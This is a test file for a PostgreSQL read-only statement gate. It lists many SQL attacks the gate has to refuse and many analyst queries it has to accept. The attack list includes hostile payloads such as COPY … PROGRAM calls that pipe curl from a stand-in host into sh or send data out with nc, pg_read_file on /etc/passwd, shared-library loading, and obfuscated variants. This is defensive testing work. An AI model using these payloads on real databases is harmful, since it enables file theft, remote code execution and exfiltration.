/**
 * The PostgreSQL statement gate against PostgreSQL 18's real parser: attacks it must refuse (with the reason the
 * user sees), reads it must accept (a false rejection pushes users to turn read-only off), and the kind of writes
 * and DDL for writable environments.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { InvalidInputError, ReadOnlyError } from '../../src/errors.js';
import type { StatementRules } from '../../src/guard/statement-gate.js';
import { createPostgresRules, type PostgresVerdict } from '../../src/guard/rules/postgres-rules.js';

/** [statement, fragment of the refusal message]. */
const ATTACKS: Array<[string, string]> = [
  // Several statements, however they are dressed up.
  ['SELECT 1; SELECT 2', 'Several statements'],
  ['SELECT 1; DROP TABLE users', 'Several statements'],
  ['select 1;/* harmless */ drop table users', 'Several statements'],
  ['SELECT 1 -- ; nothing here\n; DELETE FROM users', 'Several statements'],
  // Transaction control and session state.
  ['BEGIN', 'BEGIN is refused'],
  ['COMMIT', 'COMMIT is refused'],
  ['ROLLBACK', 'ROLLBACK is refused'],
  ['START TRANSACTION READ WRITE', 'START TRANSACTION is refused'],
  ['SAVEPOINT s1', 'SAVEPOINT is refused'],
  ["PREPARE TRANSACTION 'tx1'", 'PREPARE TRANSACTION is refused'],
  ['SET ROLE postgres', 'SET ROLE is refused: it changes whom the session acts as'],
  ['SET SESSION AUTHORIZATION postgres', 'SET SESSION AUTHORIZATION is refused'],
  ['SET statement_timeout = 0', 'SET is refused'],
  ['SET LOCAL transaction_read_only = off', 'SET is refused'],
  ['SET TRANSACTION READ WRITE', 'SET TRANSACTION is refused'],
  ['RESET ALL', 'RESET is refused'],
  ['DISCARD ALL', 'DISCARD is refused'],
  ['LISTEN jobs', 'LISTEN is refused'],
  ["NOTIFY jobs, 'x'", 'NOTIFY is refused'],
  ['PREPARE wipe AS DELETE FROM users', 'PREPARE is refused'],
  ['EXECUTE wipe', 'EXECUTE is refused'],
  ['EXPLAIN ANALYZE EXECUTE wipe', 'EXECUTE is refused'],
  ['DEALLOCATE ALL', 'DEALLOCATE is refused'],
  ['DECLARE c CURSOR FOR SELECT * FROM users', 'DECLARE … CURSOR is refused'],
  ['FETCH ALL FROM c', 'FETCH is refused'],
  ['LOCK TABLE users IN ACCESS EXCLUSIVE MODE', 'LOCK is refused'],
  // COPY, code and the server.
  ["COPY users TO '/tmp/users.csv'", 'files on the database server'],
  ["COPY users FROM '/etc/passwd'", 'files on the database server'],
  ["COPY users FROM PROGRAM 'curl https://evil.example/x | sh'", 'COPY … PROGRAM is refused: it runs a shell command'],
  ["COPY (SELECT * FROM users) TO PROGRAM 'nc evil.example 9'", 'shell command'],
  ['COPY users TO STDOUT', 'COPY protocol'],
  ['DO $$BEGIN DELETE FROM users; END$$', 'DO is refused'],
  ['CALL purge_users()', 'CALL is refused'],
  ["LOAD '/tmp/evil.so'", 'LOAD is refused: it loads a shared library'],
  ['CHECKPOINT', 'server administration'],
  ["ALTER SYSTEM SET archive_command = 'sh /tmp/x'", 'server configuration file'],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", 'CREATE FUNCTION/PROCEDURE is refused'],
  ['CREATE EXTENSION dblink', 'CREATE EXTENSION is refused'],
  ['CREATE ROLE intruder SUPERUSER', 'CREATE ROLE is refused'],
  ['GRANT pg_read_server_files TO analyst', 'role membership'],
  ['CREATE SCHEMA s CREATE TRIGGER t AFTER INSERT ON s.x FOR EACH ROW EXECUTE FUNCTION f()', 'CREATE TRIGGER is refused'],
  // Functions that reach files, the OS, the network, other sessions, or run SQL text unseen.
  ["SELECT pg_read_file('/etc/passwd')", 'pg_read_file() is refused: it reads or writes files on the database server'],
  ["SELECT pg_read_binary_file('postgresql.conf')", 'pg_read_binary_file() is refused'],
  ["SELECT * FROM pg_ls_dir('.')", 'pg_ls_dir() is refused'],
  ["SELECT pg_stat_file('postgresql.conf')", 'pg_stat_file() is refused'],
  ["SELECT lo_import('/etc/passwd')", 'lo_import() is refused: it reads or writes large objects'],
  ["SELECT lo_export(16401, '/tmp/x')", 'lo_export() is refused'],
  ['SELECT lo_get(16401)', 'lo_get() is refused'],
  ['SELECT loread(lo_open(16401, 262144), 100)', 'large objects'],
  ["SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t(x int)", 'dblink() is refused: it opens connections to other servers'],
  ["SELECT dblink_exec('host=evil.example', 'DROP TABLE x')", 'dblink_exec() is refused'],
  ["SELECT set_config('statement_timeout', '0', false)", 'set_config() is refused'],
  ["SELECT nextval('s') FROM users WHERE currval('s') > 0", 'currval() is refused'],
  ['SELECT lastval()', 'lastval() is refused'],
  ['SELECT pg_advisory_lock(1)', 'pg_advisory_lock() is refused: it takes advisory locks'],
  ['SELECT pg_try_advisory_lock(1)', 'pg_try_advisory_lock() is refused'],
  ['SELECT pg_advisory_xact_lock_shared(1)', 'advisory locks'],
  ['SELECT pg_terminate_backend(4242)', 'pg_terminate_backend() is refused: it terminates another session'],
  ['SELECT pg_cancel_backend(4242)', 'pg_cancel_backend() is refused'],
  ['SELECT pg_reload_conf()', 'pg_reload_conf() is refused'],
  ['SELECT pg_rotate_logfile()', 'pg_rotate_logfile() is refused'],
  ['SELECT pg_sleep(10)', 'pg_sleep() is refused: it only waits'],
  ["SELECT pg_sleep_for('5 minutes')", 'pg_sleep_for() is refused'],
  ["SELECT pg_sleep_until('tomorrow')", 'pg_sleep_until() is refused'],
  ['SELECT txid_current(), pg_switch_wal()', 'pg_switch_wal() is refused'],
  ["SELECT pg_create_restore_point('x')", 'pg_create_restore_point() is refused'],
  ["SELECT pg_logical_emit_message(true, 'x', 'y')", 'pg_logical_emit_message() is refused'],
  ["SELECT query_to_xml('DELETE FROM users RETURNING *', true, false, '')", 'query_to_xml() is refused: it runs SQL text'],
  ["SELECT table_to_xml('users', true, false, '')", 'table_to_xml() is refused'],
  ["SELECT cursor_to_xml('c', 10, true, false, '')", 'cursor_to_xml() is refused'],
  ["SELECT ts_stat('SELECT body_tsv FROM docs')", 'ts_stat() is refused: it runs SQL text'],
  ["SELECT pg_notify('jobs', 'x')", 'pg_notify() is refused'],
  ['SELECT setseed(0.5)', 'setseed() is refused'],
  ['SELECT pg_stat_reset()', 'pg_stat_reset() is refused'],
  // Unknown and user-defined functions, operators and sampling methods.
  ['SELECT pg_some_future_admin_fn()', 'PostgreSQL has no built-in function pg_some_future_admin_fn() that the gate knows. If it is defined in this database, it is not known to be free of side effects; ask the operator to allow it in allowed_functions if it only reads.'],
  ['SELECT purge_everything(1)', 'PostgreSQL has no built-in function purge_everything() that the gate knows. If it is defined in this database, it is not known to be free of side effects'],
  ["SELECT public.lower('X')", 'public.lower() is not the built-in lower()'],
  ["SELECT pg_catalog.pg_read_file('/etc/passwd')", 'pg_catalog.pg_read_file() is refused'],
  ['SELECT id OPERATOR(public.+) 1 FROM users', 'OPERATOR(public.+) is refused'],
  ['SELECT * FROM users ORDER BY id USING OPERATOR(public.<)', 'OPERATOR(public.<) is refused'],
  ['SELECT * FROM users TABLESAMPLE system_rows(10)', 'TABLESAMPLE method system_rows is not known'],
  // Obfuscation: the parser resolves case, comments, quoting, escapes and whitespace before the gate looks.
  ["SELECT PG_READ_FILE('/etc/passwd')", 'pg_read_file() is refused'],
  ["SELECT Pg_Read_File/* hidden */('/etc/passwd')", 'pg_read_file() is refused'],
  ["SELECT \"pg_read_file\"('/etc/passwd')", 'pg_read_file() is refused'],
  ["SELECT U&\"pg\\005fread\\005ffile\"('/etc/passwd')", 'pg_read_file() is refused'],
  ["SELECT\tpg_read_file\n(\n  '/etc/passwd'\n)", 'pg_read_file() is refused'],
  ['SELECT $x$a$x$ || pg_read_file($$/etc/passwd$$)', 'pg_read_file() is refused'],
  ["SELECT \"PG_READ_FILE\"('/etc/passwd')", 'no built-in function PG_READ_FILE() that the gate knows'],
  ['/* SELECT */ BEGIN', 'BEGIN is refused'],
  ["SeLeCt pg_SLEEP(1)", 'pg_sleep() is refused'],
  ["SELECT pg_read_file\u200b('/etc/passwd')", 'is refused'],
  ["SELECT set_config\u200b('statement_timeout', '0', false)", 'is not known to be free of side effects'],
  ["SELECT 1 /* outer /* nested */ still a comment */; DELETE FROM users", 'Several statements'],
  // Dangerous calls hidden anywhere in the tree.
  ["SELECT (SELECT pg_read_file('/etc/passwd'))", 'pg_read_file() is refused'],
  ["WITH x AS (SELECT pg_read_file('/etc/passwd') AS f) SELECT * FROM x", 'pg_read_file() is refused'],
  ["WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE pg_sleep(1) IS NULL) SELECT * FROM r", 'pg_sleep() is refused'],
  ["SELECT * FROM users u CROSS JOIN LATERAL pg_ls_dir('/') AS d", 'pg_ls_dir() is refused'],
  ["SELECT row_number() OVER (ORDER BY pg_read_file('x')) FROM users", 'pg_read_file() is refused'],
  ["SELECT count(*) FILTER (WHERE lo_import('/x') > 0) FROM users", 'lo_import() is refused'],
  ["SELECT * FROM users ORDER BY pg_sleep(1)", 'pg_sleep() is refused'],
  ["SELECT id FROM users GROUP BY id HAVING set_config('a.b', 'c', false) IS NOT NULL", 'set_config() is refused'],
  ["SELECT * FROM users u JOIN orders o ON o.user_id = u.id AND pg_advisory_lock(u.id) IS NOT NULL", 'pg_advisory_lock() is refused'],
  ["VALUES (1, pg_read_file('/etc/passwd'))", 'pg_read_file() is refused'],
  ["SELECT CASE WHEN true THEN pg_read_file('x') END", 'pg_read_file() is refused'],
  ["SELECT coalesce(NULL, lower(pg_read_file('x')))::text", 'pg_read_file() is refused'],
  ["SELECT ARRAY[dblink_exec('host=x', 'y')]", 'dblink_exec() is refused'],
  ["SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY pg_sleep(1)::text::int) FROM users", 'pg_sleep() is refused'],
  ["SELECT * FROM users WHERE id IN (SELECT pg_terminate_backend(pid) FROM pg_stat_activity)", 'pg_terminate_backend() is refused'],
  ["SELECT EXISTS (SELECT 1 FROM users WHERE query_to_xml('x', true, true, '') IS NULL)", 'query_to_xml() is refused'],
  ['EXPLAIN ANALYZE SELECT pg_sleep(100)', 'pg_sleep() is refused'],
  ["INSERT INTO secrets SELECT pg_read_file('/etc/passwd')", 'pg_read_file() is refused'],
  ["UPDATE users SET note = pg_read_file('/etc/passwd') WHERE id = 1", 'pg_read_file() is refused'],
  ["DELETE FROM users WHERE id = 1 RETURNING dblink_exec('host=x', 'y')", 'dblink_exec() is refused'],
  ["CREATE TABLE loot AS SELECT pg_read_file('/etc/passwd') AS f", 'pg_read_file() is refused'],
  ["CREATE TABLE loot (f text DEFAULT pg_read_file('/etc/passwd'))", 'pg_read_file() is refused'],
  ["CREATE VIEW v AS SELECT lo_import('/etc/passwd')", 'lo_import() is refused'],
  ['CREATE INDEX ON users (purge_everything(id))', 'no built-in function purge_everything() that the gate knows'],
  ['DELETE FROM users WHERE CURRENT OF c', 'WHERE CURRENT OF (cursors) is not known to the gate'],
  // pg_settings: its update rule calls set_config, so a write to it is SET (session context, statement_timeout).
  ["UPDATE pg_settings SET setting = '0' WHERE name = 'statement_timeout'", 'UPDATE pg_settings is refused'],
  ["WITH s AS (UPDATE pg_catalog.pg_settings SET setting = 'bob' WHERE name = 'sqlgate.user' RETURNING 1) SELECT * FROM s", 'UPDATE pg_settings is refused'],
  ["INSERT INTO pg_settings (name, setting) VALUES ('search_path', 'evil')", 'INSERT INTO pg_settings is refused'],
  ["DELETE FROM pg_catalog.pg_settings WHERE name = 'search_path'", 'DELETE pg_settings is refused'],
  ["MERGE INTO pg_settings s USING (SELECT 'x' AS n) x ON s.name = x.n WHEN MATCHED THEN UPDATE SET setting = 'y'", 'MERGE INTO pg_settings is refused'],
  ['CREATE VIEW my_settings AS SELECT name, setting FROM (SELECT * FROM pg_catalog.pg_settings) s', 'A view over pg_settings is refused'],
];

/** Reads that must pass: each is something a real analyst sends. */
const LEGITIMATE_READS: Array<[string]> = [
  ['SELECT 1'],
  ['SELECT 1;  -- done\n'],
  ["SELECT 'DROP TABLE x' AS s -- delete everything"],
  ['SELECT id, updated_at, deleted, "delete", "update" FROM "drop" WHERE deleted = false'],
  [`WITH monthly AS (
      SELECT date_trunc('month', o.created_at) AS m, c.region, sum(o.total) AS revenue,
             count(*) FILTER (WHERE o.status = 'refunded') AS refunds
      FROM orders o JOIN customers c ON c.id = o.customer_id
      WHERE o.created_at >= now() - interval '1 year'
      GROUP BY 1, 2)
    SELECT m, region, revenue, rank() OVER (PARTITION BY m ORDER BY revenue DESC) AS r,
           revenue / nullif(lag(revenue) OVER w, 0) - 1 AS growth
    FROM monthly WINDOW w AS (PARTITION BY region ORDER BY m)
    ORDER BY m DESC NULLS LAST LIMIT 100`],
  [`WITH RECURSIVE tree AS (
      SELECT id, parent_id, 1 AS depth FROM categories WHERE parent_id IS NULL
      UNION ALL SELECT c.id, c.parent_id, t.depth + 1 FROM categories c JOIN tree t ON c.parent_id = t.id)
    SEARCH DEPTH FIRST BY id SET ordercol CYCLE id SET is_cycle USING path
    SELECT * FROM tree`],
  ['WITH a AS MATERIALIZED (SELECT 1 AS x), b AS NOT MATERIALIZED (SELECT 2 AS y) SELECT * FROM a, b'],
  [`SELECT user_id, row_number() OVER w, dense_rank() OVER w, percent_rank() OVER w, cume_dist() OVER w,
           ntile(4) OVER w, lead(total, 1, 0) OVER w, first_value(total) OVER w, last_value(total) OVER w,
           nth_value(total, 2) OVER w,
           sum(total) OVER (PARTITION BY user_id ORDER BY created_at ROWS BETWEEN 2 PRECEDING AND CURRENT ROW)
    FROM orders WINDOW w AS (PARTITION BY user_id ORDER BY created_at)`],
  [`SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total), percentile_disc(ARRAY[0.9, 0.99]) WITHIN GROUP
           (ORDER BY total), mode() WITHIN GROUP (ORDER BY status), stddev_samp(total), var_pop(total),
           corr(total, qty), regr_slope(total, qty), covar_samp(total, qty), bool_and(paid), bit_or(flags),
           every(paid), string_agg(DISTINCT status, ',' ORDER BY status), array_agg(id ORDER BY id USING >),
           jsonb_agg(t), json_object_agg(id, total), avg(total), min(total), max(total)
    FROM orders t`],
  ['SELECT id FROM a UNION SELECT id FROM b INTERSECT SELECT id FROM c EXCEPT ALL SELECT id FROM d'],
  [`SELECT c.name, o.* FROM customers c
    CROSS JOIN LATERAL (SELECT * FROM orders WHERE customer_id = c.id ORDER BY created_at DESC LIMIT 3) o`],
  ["SELECT o.id, item->>'sku' AS sku, (item->>'qty')::int FROM orders o, LATERAL jsonb_array_elements(o.items) AS item"],
  [`SELECT payload->'user'->>'email', payload #> '{a,b}', payload #>> '{a,b}', payload @> '{"x": 1}',
           payload <@ '{}', payload ? 'key', payload ?| ARRAY['a', 'b'], payload ?& ARRAY['a'], payload - 'k',
           jsonb_path_query_first(payload, '$.items[*] ? (@.qty > 1)'), payload @? '$.a', payload @@ '$.a == 1'
    FROM events`],
  [`SELECT jt.* FROM orders,
      JSON_TABLE(items, '$[*]' COLUMNS (n FOR ORDINALITY, sku text PATH '$.sku', qty int PATH '$.qty' DEFAULT 0 ON EMPTY,
                 NESTED PATH '$.tags[*]' COLUMNS (tag text PATH '$'))) AS jt`],
  [`SELECT JSON_VALUE(payload, '$.a' RETURNING int DEFAULT 0 ON ERROR), JSON_QUERY(payload, '$.b' WITH WRAPPER),
           JSON_EXISTS(payload, '$.c'), payload IS JSON OBJECT, JSON_OBJECT('a': 1, 'b': 2),
           JSON_ARRAY(1, 2), JSON_ARRAYAGG(id ORDER BY id), JSON_OBJECTAGG(k VALUE v), JSON_SCALAR(1),
           JSON('{"a":1}'), JSON_SERIALIZE(payload RETURNING text)
    FROM events GROUP BY payload`],
  [`SELECT region, product, GROUPING(region, product), sum(total) FROM sales
    GROUP BY GROUPING SETS ((region, product), (region), ())`],
  ['SELECT region, product, sum(total) FROM sales GROUP BY ROLLUP (region, product)'],
  ['SELECT region, product, sum(total) FROM sales GROUP BY DISTINCT CUBE (region, product)'],
  [`SELECT CASE WHEN total > 100 THEN 'big' WHEN total > 10 THEN 'mid' ELSE 'small' END,
           coalesce(note, ''), nullif(status, ''), greatest(a, b, 0), least(a, b), ROW(a, b) = ROW(1, 2),
           ARRAY[1, 2, 3] && ARRAY[a], a = ANY(ARRAY[1, 2]), a > ALL(SELECT b FROM t2), (ARRAY[1, 2])[1],
           a IS DISTINCT FROM b, a BETWEEN SYMMETRIC 1 AND 5, a IS NOT NULL, paid IS TRUE
    FROM t`],
  ['SELECT * FROM users u WHERE EXISTS (SELECT 1 FROM orders o WHERE o.user_id = u.id) AND u.id IN (1, 2, 3)'],
  [`SELECT DISTINCT ON (customer_id) customer_id, created_at, total FROM orders
    ORDER BY customer_id, created_at DESC NULLS LAST OFFSET 10 FETCH FIRST 5 ROWS WITH TIES`],
  ['SELECT * FROM orders TABLESAMPLE BERNOULLI (10) REPEATABLE (42)'],
  ['SELECT count(*) FROM orders TABLESAMPLE SYSTEM (5)'],
  ['TABLE orders'],
  ["VALUES (1, 'a'), (2, 'b') ORDER BY 1"],
  ['EXPLAIN SELECT * FROM orders WHERE id = 1'],
  ['EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) SELECT count(*) FROM orders'],
  ['SHOW statement_timeout'],
  ['SHOW ALL'],
  [`SELECT table_schema, table_name, column_name, data_type FROM information_schema.columns
    WHERE table_schema NOT IN ('pg_catalog', 'information_schema') ORDER BY 1, 2, ordinal_position`],
  [`SELECT n.nspname, c.relname, pg_size_pretty(pg_total_relation_size(c.oid)), pg_relation_size(c.oid),
           pg_table_size(c.oid), pg_indexes_size(c.oid), obj_description(c.oid, 'pg_class'),
           col_description(c.oid, 1), has_table_privilege(c.oid, 'SELECT'), pg_get_viewdef(c.oid),
           format_type(a.atttypid, a.atttypmod), pg_get_expr(d.adbin, d.adrelid), pg_typeof(c.reltuples),
           pg_get_constraintdef(k.oid), pg_get_indexdef(c.oid), quote_ident(c.relname), quote_literal(n.nspname)
    FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
    LEFT JOIN pg_attribute a ON a.attrelid = c.oid LEFT JOIN pg_attrdef d ON d.adrelid = c.oid
    LEFT JOIN pg_constraint k ON k.conrelid = c.oid WHERE c.relkind = 'r'`],
  [`SELECT date_trunc('week', created_at), extract(year FROM created_at), date_part('dow', created_at),
           age(now(), created_at), make_date(2024, 1, 31), make_timestamp(2024, 1, 1, 0, 0, 0),
           to_char(created_at, 'YYYY-MM'), to_date('2024-01-01', 'YYYY-MM-DD'), to_timestamp(0),
           created_at AT TIME ZONE 'UTC', justify_interval(interval '40 days'), isfinite(created_at),
           date_bin('15 minutes', created_at, timestamp '2001-01-01'), current_date, current_timestamp,
           localtimestamp, clock_timestamp()
    FROM orders`],
  ["SELECT d::date FROM generate_series(date '2024-01-01', date '2024-12-31', interval '1 month') AS d"],
  [`SELECT lower(name), upper(name), initcap(name), length(name), substr(name, 1, 3),
           substring(name FROM 2 FOR 3), trim(BOTH ' ' FROM name), btrim(name), ltrim(name), rtrim(name),
           replace(name, 'a', 'b'), split_part(email, '@', 2), concat(a, b), concat_ws('-', a, b), left(name, 2),
           right(name, 2), position('@' IN email), strpos(email, '@'), lpad(code, 5, '0'), rpad(code, 5),
           regexp_replace(name, '\\s+', ' ', 'g'), regexp_match(name, '(\\d+)'), format('%s-%s', a, b),
           md5(email), translate(name, 'abc', 'xyz'), reverse(name), repeat('x', 3), starts_with(name, 'A'),
           encode(sha256(email::bytea), 'hex'), overlay(name PLACING 'xx' FROM 2), name || '!'
    FROM users WHERE name ~* '^a' AND email LIKE '%!_%' ESCAPE '!' AND name SIMILAR TO 'A%' AND name ILIKE 'a%'`],
  ["SELECT total::numeric(10, 2), CAST(created_at AS date), '2024-01-01'::date, ARRAY[1, 2]::int[], interval '1 day' * 3, '{1,2}'::bigint[], 'users'::regclass"],
  ['SELECT name FROM users ORDER BY name COLLATE "C"'],
  ['SELECT * FROM orders WHERE customer_id = $1 AND created_at > $2'],
  ["SELECT pg_catalog.lower(name), pg_catalog.count(*) FROM users GROUP BY 1"],
  ['SELECT gen_random_uuid(), version(), current_user, session_user, current_database(), current_schema, random()'],
  [`SELECT x.* FROM docs, XMLTABLE('/rows/row' PASSING body COLUMNS id int PATH '@id', name text PATH 'name') AS x
    WHERE xpath_exists('/rows', body) AND xmlexists('//row' PASSING body)`],
  ['SELECT $$DELETE FROM users$$ AS example, $tag$UPDATE x SET y = 1$tag$, E\'DROP\\tTABLE\', U&\'\\0041\''],
  ['SELECT id, (SELECT max(total) FROM orders o WHERE o.user_id = u.id), ARRAY(SELECT 1) FROM users u GROUP BY id HAVING count(*) > 1'],
  ['SELECT n, s, i FROM ROWS FROM (generate_series(1, 3), unnest(ARRAY[\'a\', \'b\'])) WITH ORDINALITY AS t(n, s, i)'],
  ["SELECT jsonb_build_object('a', 1), to_jsonb(u), jsonb_set(payload, '{a}', '1'), jsonb_typeof(payload), jsonb_each_text(payload), json_array_length('[1]') FROM events, users u"],
  ['SELECT * FROM a NATURAL JOIN b FULL OUTER JOIN c USING (id) AS j LEFT JOIN LATERAL unnest(c.tags) WITH ORDINALITY AS t(tag, n) ON true'],
  ['SELECT a OPERATOR(pg_catalog.+) 1, array_length(tags, 1), cardinality(tags), array_position(tags, \'x\'), array_to_string(tags, \',\'), string_to_array(\'a,b\', \',\') FROM t'],
  ['SELECT/* inline */1/**/AS/* c */x'],
  ['SELECT 1 /* outer /* nested */ ; DROP TABLE users */'],
  ["SELECT count(*) FROM orders WHERE created_at > now() - interval '7 days' AND status <> 'cancelled'"],
  ['SELECT uid FROM users EXCEPT SELECT uid FROM banned ORDER BY uid LIMIT ALL'],
];

let rules: StatementRules;
const NO_UDFS = { allowedFunctions: [] };
const classify = (sql: string, allowedFunctions: string[] = []): PostgresVerdict =>
  rules.classify(sql, { allowedFunctions }) as PostgresVerdict;

function refusal(sql: string, allowedFunctions: string[] = []): ReadOnlyError {
  try {
    const verdict = classify(sql, allowedFunctions);
    throw new Error(`accepted as ${JSON.stringify(verdict)}`);
  } catch (err) {
    if (!(err instanceof ReadOnlyError)) throw err;
    return err;
  }
}

beforeAll(async () => {
  rules = await createPostgresRules();
});

describe('postgres gate: attacks refused in every mode', () => {
  it(`has at least 60 attacks (${ATTACKS.length})`, () => {
    expect(ATTACKS.length).toBeGreaterThanOrEqual(60);
  });

  it.each(ATTACKS)('refuses %s', (sql, fragment) => {
    const err = refusal(sql);
    expect(err.code).toBe('SG_READ_ONLY');
    expect(err.message).toContain(fragment);
    expect(err.hint).toBeTruthy();
  });
});

describe('postgres gate: pg_settings', () => {
  it('is read like any view, and a table of that name in another schema is written like any table', () => {
    expect(classify("SELECT name, setting FROM pg_settings WHERE name = 'statement_timeout'")).toEqual({ kind: 'read', isDestructive: false });
    expect(classify('UPDATE app.pg_settings SET value = 1 WHERE id = 1').kind).toBe('write');
    expect(classify('CREATE VIEW v AS SELECT * FROM app.pg_settings').kind).toBe('ddl');
  });
});

describe('postgres gate: legitimate reads accepted', () => {
  it(`has at least 35 reads (${LEGITIMATE_READS.length})`, () => {
    expect(LEGITIMATE_READS.length).toBeGreaterThanOrEqual(35);
  });

  it.each(LEGITIMATE_READS)('accepts %s', (sql) => {
    expect(classify(sql)).toEqual({ kind: 'read', isDestructive: false });
  });
});

describe('postgres gate: text it cannot parse', () => {
  it.each([
    ['selec 1', 'syntax error at or near "selec" (at character 1)'],
    ['SELECT * FROM', 'syntax error at end of input (at character 14)'],
    ["SELECT 'unterminated", 'unterminated quoted string'],
    ['SELECT (1', 'syntax error at end of input'],
    ['DEL/**/ETE FROM users', 'syntax error at or near "DEL"'],
  ])('%s → InvalidInputError with the parser message', (sql, fragment) => {
    const act = () => classify(sql);
    expect(act).toThrow(InvalidInputError);
    expect(act).toThrow(fragment);
  });

  it('names PostgreSQL and what it writes instead of another dialect\'s syntax, outside literals only', () => {
    expect(() => classify('SELECT TOP 5 * FROM users')).toThrow(
      'Could not parse the PostgreSQL statement: syntax error at or near "5" (at character 12). PostgreSQL has no SELECT TOP n: put LIMIT n at the end',
    );
    expect(() => classify('SELECT `name` FROM users')).toThrow('PostgreSQL has no `backtick` quoting: quote names with double quotes');
    expect(() => classify("SELECT now() - INTERVAL 1 HOUR")).toThrow("write the number and the unit in one string: now() - INTERVAL '1 hour'");
    // A dollar-quoted string is a literal: TOP inside it is no advice.
    expect(() => classify('SELECT $x$ TOP 5 $x$ FROM')).toThrow(/^Could not parse the PostgreSQL statement: syntax error at end of input \(at character \d+\)\.$/);
  });

  it('says PostgreSQL has no function of another dialect, and what to write instead', () => {
    expect(() => classify("SELECT date_format(created_at, '%Y') FROM users")).toThrow(InvalidInputError);
    expect(() => classify('SELECT ifnull(a, 0) FROM users')).toThrow('PostgreSQL has no function ifnull(): use coalesce(a, b).');
    expect(classify('SELECT ifnull(a, 0) FROM users', ['ifnull'])).toMatchObject({ kind: 'read' });
  });

  it('refuses a NUL character, behind which the C parser would see nothing', () => {
    expect(() => classify('SELECT 1\u0000; DROP TABLE users')).toThrow(InvalidInputError);
    expect(() => classify('SELECT 1\u0000; DROP TABLE users')).toThrow('NUL character');
  });

  it.each(['', '   \n ', '-- only a comment', ';;'])('refuses empty text %j as invalid input', (sql) => {
    expect(() => classify(sql)).toThrow(InvalidInputError);
  });

  it('turns nesting beyond the parser into invalid input, and walks deep trees without overflowing', () => {
    expect(() => classify(`SELECT ${'('.repeat(20_000)}1${')'.repeat(20_000)}`)).toThrow('memory exhausted');
    expect(() => classify(`SELECT ${Array(20_000).fill('1').join(' + ')}`)).toThrow('nested too deeply');
    expect(classify(`SELECT ${'- '.repeat(4_000)}1`)).toEqual({ kind: 'read', isDestructive: false });
    expect(() => classify(`SELECT ${'- '.repeat(4_000)}length(pg_read_file('x'))`)).toThrow('pg_read_file() is refused');
    expect(classify('SELECT 1')).toEqual({ kind: 'read', isDestructive: false });
  });
});

describe('postgres gate: cost', () => {
  it('parses and checks a typical analytic query (measured, not asserted)', () => {
    const sql = LEGITIMATE_READS[4]![0];
    for (let i = 0; i < 500; i++) rules.classify(sql, NO_UDFS);
    const samples: number[] = [];
    for (let i = 0; i < 2000; i++) {
      const start = performance.now();
      rules.classify(sql, NO_UDFS);
      samples.push(performance.now() - start);
    }
    samples.sort((a, b) => a - b);
    const p = (q: number) => samples[Math.floor(q * (samples.length - 1))]!.toFixed(3);
    console.log(`postgres gate: ${sql.length}-char analytic query, p50 ${p(0.5)} ms, p99 ${p(0.99)} ms`);
    expect(samples.length).toBe(2000);
  });
});
